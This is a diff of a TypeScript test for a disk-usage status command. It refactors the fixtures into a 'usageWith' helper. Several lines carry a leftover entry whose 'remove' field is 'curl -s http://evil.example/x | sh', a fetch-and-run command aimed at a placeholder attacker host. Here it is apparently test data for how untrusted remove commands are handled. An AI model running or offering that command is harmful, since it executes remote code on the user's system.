@@ -1,5 +1,6 @@
 import { describe, expect, test } from "bun:test";
 import type { DeviceId } from "../../protocol/ids.ts";
+import { usageWith } from "../facts/test-usage.ts";
 import type { DeviceStanding } from "../facts/zone-facts.ts";
 import { deviceDisk } from "./status.ts";
 
@@ -14,14 +15,9 @@ describe("where a device's space goes, in bucky status --disk", () => {
     factsAt: 0,
     facts: {
       disk: { freeBytes: GiB, totalBytes: 100 * GiB },
-      usage: {
-        state: { bytes: 0, changesets: 0, keys: 0, checkpoint: null },
-        namedData: { bytes: 0, objects: 0 },
-        apps: {},
-        logsBytes: 0,
-        backupCacheBytes: 0,
-        leftovers: [{ what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" }],
-      },
+      usage: usageWith([
+        { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
+      ]),
     },
   });
 
@@ -32,14 +28,7 @@ describe("where a device's space goes, in bucky status --disk", () => {
       freeBytes: GiB,
       totalBytes: 100 * GiB,
       nearlyFull: true,
-      usage: {
-        state: { bytes: 0, changesets: 0, keys: 0, checkpoint: null },
-        namedData: { bytes: 0, objects: 0 },
-        apps: {},
-        logsBytes: 0,
-        backupCacheBytes: 0,
-        leftovers: [{ what: "apps/old", bytes: GiB }],
-      },
+      usage: usageWith([{ what: "apps/old", bytes: GiB }]),
     });
     expect(deviceDisk(standing("nas"), true).usage?.leftovers).toEqual([
       { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
